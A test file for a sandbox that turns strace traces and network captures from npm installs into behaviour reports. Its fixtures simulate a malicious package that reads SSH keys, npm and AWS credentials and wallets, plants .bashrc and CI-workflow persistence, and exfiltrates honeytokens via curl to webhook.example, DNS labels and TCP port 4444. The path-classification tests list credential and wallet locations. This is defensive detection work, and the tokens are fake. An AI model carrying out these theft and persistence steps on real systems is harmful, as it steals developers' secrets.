import { describe, test } from 'node:test';
import { strict as assert } from 'node:assert';
import { readFileSync } from 'node:fs';
import { BehaviourReport, type TraceEvent } from '@secure-registry/shared';
import { learnBaseline } from './baseline.js';
import { classifyPath, type PathContext } from './file-class.js';
import { processKey } from './noise.js';
import { reduceEvents, type ReduceInput } from './reduce.js';
import { parseStrace } from './strace-parser.js';

const HOME = '/home/dev';
const PROJECT = '/home/dev/app';
const PKG = '/home/dev/app/node_modules/evil-pkg';
const ctx: PathContext = { home: HOME, projectDir: PROJECT, packageDir: PKG };
const honeytokens = [
  { name: 'NPM_TOKEN', value: 'npm_hT9kQ2vL7xP4mZ8wR1yB6nC3', path: '~/.npmrc' },
  { name: 'AWS_SECRET_ACCESS_KEY', value: 'aWs/SeCrEt+K3y9Q2vL7xP4mZ8wR1yB6' },
  { name: 'id_rsa', value: 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAE', path: `${HOME}/.ssh/id_rsa` },
];

// An install run: npm runs the postinstall; the package's node script steals and exfiltrates.
const trace = String.raw`
100 execve("/usr/bin/node", ["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "run", "postinstall"], 0x1 /* 30 vars */) = 0
100 openat(AT_FDCWD</home/dev/app/node_modules/evil-pkg>, "/home/dev/.npmrc", O_RDONLY|O_CLOEXEC) = 3</home/dev/.npmrc>
100 openat(AT_FDCWD</home/dev/app/node_modules/evil-pkg>, "/home/dev/app/package.json", O_RDONLY|O_CLOEXEC) = 3</home/dev/app/package.json>
100 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f) = 101
101 execve("/bin/sh", ["sh", "-c", "node index.js"], 0x1 /* 30 vars */) = 0
101 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f) = 102
102 execve("/usr/bin/node", ["node", "index.js"], 0x1 /* 30 vars */) = 0
102 openat(AT_FDCWD</home/dev/app/node_modules/evil-pkg>, "index.js", O_RDONLY|O_CLOEXEC) = 3</home/dev/app/node_modules/evil-pkg/index.js>
102 openat(AT_FDCWD</home/dev/app/node_modules/evil-pkg>, "/usr/lib/locale/C.utf8/LC_CTYPE", O_RDONLY) = 3
102 openat(AT_FDCWD</home/dev/app/node_modules/evil-pkg>, "/home/dev/.npmrc", O_RDONLY|O_CLOEXEC) = 3</home/dev/.npmrc>
102 openat(AT_FDCWD</home/dev/app/node_modules/evil-pkg>, "../../../.ssh/id_rsa", O_RDONLY|O_CLOEXEC) = 3</home/dev/.ssh/id_rsa>
102 openat(AT_FDCWD</home/dev/app/node_modules/evil-pkg>, "/home/dev/.aws/credentials", O_RDONLY) = -1 ENOENT (No such file or directory)
102 openat(AT_FDCWD</home/dev/app/node_modules/evil-pkg>, "/home/dev/.config/solana/id.json", O_RDONLY) = 3
102 openat(AT_FDCWD</home/dev/app/node_modules/evil-pkg>, "/home/dev/app/.env", O_RDONLY) = 3
102 openat(AT_FDCWD</home/dev/app/node_modules/evil-pkg>, "/tmp/x.sh", O_WRONLY|O_CREAT|O_TRUNC, 0755) = 3
102 openat(AT_FDCWD</home/dev/app/node_modules/evil-pkg>, "/dev/null", O_WRONLY) = 3
102 rename("/tmp/rc", "/home/dev/.bashrc") = 0
102 mkdir("/home/dev/app/.github/workflows", 0777) = 0
102 openat(AT_FDCWD</home/dev/app/node_modules/evil-pkg>, "/home/dev/app/.github/workflows/shai-hulud.yml", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3
102 openat(AT_FDCWD</home/dev/app/node_modules/evil-pkg>, "/home/dev/app/node_modules/lodash/index.js", O_RDONLY) = 3
102 openat(AT_FDCWD</home/dev/app/node_modules/evil-pkg>, "/home/dev/app/node_modules/@scope/lib/index.js", O_WRONLY|O_APPEND) = 3
102 unlink("/home/dev/Documents/thesis.pdf") = 0
102 openat(AT_FDCWD</home/dev/app/node_modules/evil-pkg>, "/home/dev/app/node_modules/evil-pkg/out.json", O_WRONLY|O_CREAT, 0644) = 3
102 connect(4<TCP:[1]>, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("169.254.169.254")}, 16) = 0
102 connect(5<UNIX:[2]>, {sa_family=AF_UNIX, sun_path="/var/run/nscd/socket"}, 110) = -1 ENOENT (No such file or directory)
102 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f) = 103
103 execve("/usr/bin/curl", ["curl", "-s", "https://webhook.example/x"], 0x1 /* 30 vars */) = 0
103 execve("/usr/bin/curl", ["curl", "-s", "https://webhook.example/x"], 0x1 /* 30 vars */) = 0
100 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f) = 104
104 execve("/usr/bin/node", ["node", "/usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js", "rebuild"], 0x1 /* 3 vars */) = 0
104 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f) = 105
105 execve("/usr/bin/make", ["make", "-C", "build"], 0x1 /* 3 vars */) = 0
105 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f) = 106
106 execve("/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus", ["/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus", "-quiet", "x.cc"], 0x1 /* 3 vars */) = 0
106 openat(AT_FDCWD</home/dev/app/node_modules/evil-pkg/build>, "/home/dev/.cache/node-gyp/24.0.0/include/node/node.h", O_RDONLY) = 3
`;

function input(events: TraceEvent[], extra: Partial<ReduceInput> = {}): ReduceInput {
  return {
    events,
    phase: 'install',
    packageName: 'evil-pkg@1.0.0',
    packageDir: PKG,
    home: HOME,
    projectDir: PROJECT,
    honeytokens,
    status: 'completed',
    durationMs: 1234,
    exitCode: 0,
    ...extra,
  };
}

function sinkEvents(seq: number): TraceEvent[] {
  const token = honeytokens[0]?.value ?? '';
  const aws = honeytokens[1]?.value ?? '';
  const body = JSON.stringify({
    content: Buffer.from(JSON.stringify({ env: { NPM_TOKEN: token } })).toString('base64'),
  });
  const hexName = `${Buffer.from(`k=${aws}`)
    .toString('hex')
    .match(/.{1,40}/g)
    ?.join('.')}.t.exfil.test`;
  return [
    { kind: 'http', seq, ts: 1, pid: 0, method: 'POST', host: 'webhook.example', path: '/x', tls: true, headers: { 'content-type': 'application/json' }, body, bodySize: body.length },
    { kind: 'dns', seq: seq + 1, ts: 1, pid: 0, name: hexName, qtype: 'A' },
    { kind: 'dns', seq: seq + 2, ts: 1, pid: 0, name: 'registry.npmjs.org', qtype: 'A' },
    { kind: 'tcp-data', seq: seq + 3, ts: 1, pid: 0, address: '10.0.0.9', port: 4444, data: `id_rsa: ${honeytokens[2]?.value}\n` },
    { kind: 'decoy', seq: seq + 4, ts: 1, pid: 103, tool: 'gh', argv: ['gh', 'auth', 'token'] },
    { kind: 'browser', seq: seq + 5, ts: 1, pid: 0, api: 'fetch', action: 'wrapped', detail: 'window.fetch replaced' },
    { kind: 'connect', seq: seq + 6, ts: 1, pid: 7, protocol: 'tcp', address: '10.0.0.1', port: 443, package: 'other-pkg@2.0.0' },
  ]; // prettier-ignore
}

describe('reduceEvents', () => {
  const parsed = parseStrace(trace);
  const report = reduceEvents(input([...parsed, ...sinkEvents(parsed.length)]));

  test('the report fits the shared schema and keeps run metadata', () => {
    BehaviourReport.parse(report);
    assert.deepEqual(
      [report.phase, report.package, report.status, report.durationMs, report.exitCode],
      ['install', 'evil-pkg@1.0.0', 'completed', 1234, 0],
    );
  });

  test('processes: argv deduplicated, native-build internals removed', () => {
    assert.deepEqual(
      report.processes.map((p) => p.argv.join(' ')),
      [
        'node /usr/lib/node_modules/npm/bin/npm-cli.js run postinstall',
        'sh -c node index.js',
        'node index.js',
        'curl -s https://webhook.example/x',
        'node /usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js rebuild',
      ],
    );
    const curl = report.processes[3];
    assert.equal(curl?.seq.length, 2); // both execs are evidence
    assert.equal(curl?.cwd, PKG);
  });

  test('files by class; noise, own files, tmp and system reads dropped', () => {
    const f = report.files.map((x) => `${x.op} ${x.class} ${x.path}`);
    assert.deepEqual(f, [
      'read honeytoken /home/dev/.npmrc', // by the package's node, not npm's own read (noise)
      'read honeytoken /home/dev/.ssh/id_rsa',
      'read credentials /home/dev/.aws/credentials', // failed attempt: still evidence
      'read wallet /home/dev/.config/solana/id.json',
      'read credentials /home/dev/app/.env',
      'write persistence /home/dev/.bashrc', // rename from /tmp (the tmp side is dropped)
      'write ci-config /home/dev/app/.github/workflows',
      'write ci-config /home/dev/app/.github/workflows/shai-hulud.yml',
      'write other-package /home/dev/app/node_modules/@scope/lib/index.js',
      'delete outside-package /home/dev/Documents/thesis.pdf',
    ]);
    const npmrc = report.files[0];
    const npmRead = parsed.find((e) => e.kind === 'file' && e.path === '/home/dev/.npmrc' && e.pid === 102);
    assert.deepEqual(npmrc?.seq, [npmRead?.seq]);
  });

  test('network: connections (nscd probe dropped, other packages ignored), DNS names, HTTP with body hash', () => {
    assert.deepEqual(
      report.connections.map((c) => `${c.address}:${c.port}`),
      ['169.254.169.254:80'],
    );
    assert.ok(report.dns.some((d) => d.name === 'registry.npmjs.org'));
    const [http] = report.http;
    assert.equal(http?.host, 'webhook.example');
    assert.match(http?.bodySha256 ?? '', /^[0-9a-f]{64}$/);
    assert.ok(http?.bodyExcerpt.startsWith('{"content":"'));
    assert.deepEqual(report.decoys, [
      { tool: 'gh', argv: ['gh', 'auth', 'token'], seq: [parsed.length + 4] },
    ]);
    assert.equal(report.browser[0]?.api, 'fetch');
  });

  test('honeytoken hits in HTTPS (base64 body), DNS (hex labels) and raw TCP, with destination and excerpt', () => {
    const hits = report.honeytokenHits.map((h) => `${h.token} ${h.channel} ${h.destination}`);
    assert.deepEqual(hits.sort(), [
      `AWS_SECRET_ACCESS_KEY dns ${report.dns[0]?.name}`,
      'NPM_TOKEN http webhook.example/x',
      'id_rsa tcp 10.0.0.9:4444',
    ]);
    const http = report.honeytokenHits.find((h) => h.channel === 'http');
    assert.match(http?.excerpt ?? '', /^\[base64\] /);
    assert.deepEqual(http?.seq, [parsed.length]);
    // the excerpt never needs the raw value to be useful, but points at the payload
    assert.ok(http?.excerpt.includes('eyJlbnYiOnsiTlBNX1RPS0VOIjoi'));
  });

  test('a baseline from a control run hides what the runtime did there, by process identity', () => {
    const control = parseStrace(String.raw`
200 execve("/usr/bin/node", ["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "run", "postinstall"], 0x1 /* 30 vars */) = 0
200 openat(AT_FDCWD</home/dev/app/node_modules/noop>, "/home/dev/.config/configstore/x.json", O_RDONLY) = 3
200 openat(AT_FDCWD</home/dev/app/node_modules/noop>, "/home/dev/app/.env", O_RDONLY) = 3
`);
    const baseline = learnBaseline([
      { events: control, home: HOME, projectDir: PROJECT, packageDir: `${PROJECT}/node_modules/noop` },
    ]);
    assert.ok(baseline.files.includes('npm run\t~/.config/configstore/x.json\tread'));
    assert.ok(baseline.processes.includes('node /usr/lib/node_modules/npm/bin/npm-cli.js run postinstall'));
    const run = parseStrace(String.raw`
300 execve("/usr/bin/node", ["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "run", "postinstall"], 0x1 /* 30 vars */) = 0
300 openat(AT_FDCWD</p>, "/home/dev/.config/configstore/x.json", O_RDONLY) = 3
300 openat(AT_FDCWD</p>, "/home/dev/app/.env", O_RDONLY) = 3
300 clone(child_stack=NULL, flags=SIGCHLD, child_tidptr=0x7f) = 301
301 execve("/usr/bin/node", ["node", "steal.js"], 0x1 /* 30 vars */) = 0
301 openat(AT_FDCWD</p>, "/home/dev/app/.env", O_RDONLY) = 3
`);
    const r = reduceEvents(input(run, { baseline }));
    assert.deepEqual(
      r.processes.map((p) => p.argv.join(' ')),
      ['node steal.js'],
    );
    // npm's read of .env is baseline; the package script's read of the same file is not
    assert.deepEqual(
      r.files.map((f) => [f.path, f.seq]),
      [['/home/dev/app/.env', [run[4]?.seq]]],
    );
    // a baseline learned from a report can hide ordinary paths but never sensitive classes
    const fromReport = learnBaseline([{ report: r, ...ctx }]);
    assert.deepEqual(fromReport.files, []);
    assert.equal(reduceEvents(input(run, { baseline: fromReport })).files.length, 2);
  });

  test('a real trace (strace -f -tt -yy fixture) reduces to its processes and connections', () => {
    const text = readFileSync(
      new URL('../../src/trace/fixtures/strace/strace-f-tt-yy.stderr.txt', import.meta.url),
      'utf8',
    );
    const r = reduceEvents({
      ...input(parseStrace(text)),
      packageDir: '/tmp/stcap',
      home: '/root',
      projectDir: '/tmp',
    });
    BehaviourReport.parse(r);
    assert.deepEqual(
      r.processes.map((p) => p.argv[0]),
      ['node', '/bin/sh', 'id'],
    );
    assert.deepEqual(r.files, []); // own files, /etc, /proc, /dev/null and locale data are all noise
    assert.deepEqual(
      r.connections.map((c) => `${c.address}:${c.port}`),
      ['127.0.0.1:9', '127.0.0.1:53'],
    );
    const filtered = reduceEvents({
      ...input(parseStrace(text)),
      packageDir: '/tmp/stcap',
      home: '/root',
      projectDir: '/tmp',
      resolvers: ['127.0.0.1'],
    });
    assert.deepEqual(
      filtered.connections.map((c) => c.port),
      [9],
    );
  });

  test('timeouts and errors are reported as such', () => {
    const r = reduceEvents(input([], { status: 'timeout', error: 'install phase exceeded 60s' }));
    assert.deepEqual([r.status, r.error], ['timeout', 'install phase exceeded 60s']);
  });
});

describe('path classes and process identities', () => {
  test('classifyPath', () => {
    const c = (p: string, op: 'read' | 'write' | 'delete' = 'read') =>
      classifyPath(p, op, { ...ctx, honeytokenPaths: ['~/.npmrc'] });
    assert.equal(c('/home/dev/.npmrc'), 'honeytoken');
    assert.equal(c('/home/dev/.ssh/known_hosts'), 'credentials');
    assert.equal(c('/home/dev/.ssh/authorized_keys', 'write'), 'persistence');
    assert.equal(c('/home/dev/.docker/config.json'), 'credentials');
    assert.equal(c('/home/dev/.config/google-chrome/Default/Login Data'), 'credentials');
    assert.equal(
      c(
        '/home/dev/.config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/000003.log',
      ),
      'wallet',
    );
    assert.equal(c('/home/dev/.ethereum/keystore/UTC--2020'), 'wallet');
    assert.equal(c('/home/dev/.electrum/wallets/default_wallet'), 'wallet');
    assert.equal(c('/var/spool/cron/crontabs/dev', 'write'), 'persistence');
    assert.equal(c('/home/dev/.config/systemd/user/x.service', 'write'), 'persistence');
    assert.equal(c('/home/dev/app/.git/hooks/pre-commit', 'write'), 'persistence');
    assert.equal(c('/home/dev/app/.gitlab-ci.yml', 'write'), 'ci-config');
    assert.equal(c('/home/dev/app/.env.production'), 'credentials');
    assert.equal(c('/home/dev/app/.env.example'), 'outside-package');
    assert.equal(c(`${PKG}/.env`), undefined); // the package's own file
    assert.equal(c('/home/dev/app/node_modules/lodash/index.js'), undefined); // loading a dependency
    assert.equal(c('/home/dev/app/node_modules/lodash/index.js', 'write'), 'other-package');
    assert.equal(c('/tmp/x', 'write'), undefined);
    assert.equal(c('/etc/passwd'), undefined);
    assert.equal(c('/etc/hosts', 'write'), 'outside-package');
  });

  test('processKey', () => {
    assert.equal(
      processKey(['node', '/usr/lib/node_modules/npm/bin/npm-cli.js', 'run', '--prefix', 'x', 'postinstall']),
      'npm run',
    );
    assert.equal(processKey(['node', '/usr/local/bin/npm', 'whoami']), 'npm whoami');
    assert.equal(processKey(['npm', 'publish']), 'npm publish');
    assert.equal(
      processKey(['node', '--max-old-space-size=100', `${PKG}/install.js`], ctx),
      'node $PKG/install.js',
    );
    assert.equal(processKey(['/usr/bin/curl', '-s', 'x']), 'curl');
  });
});
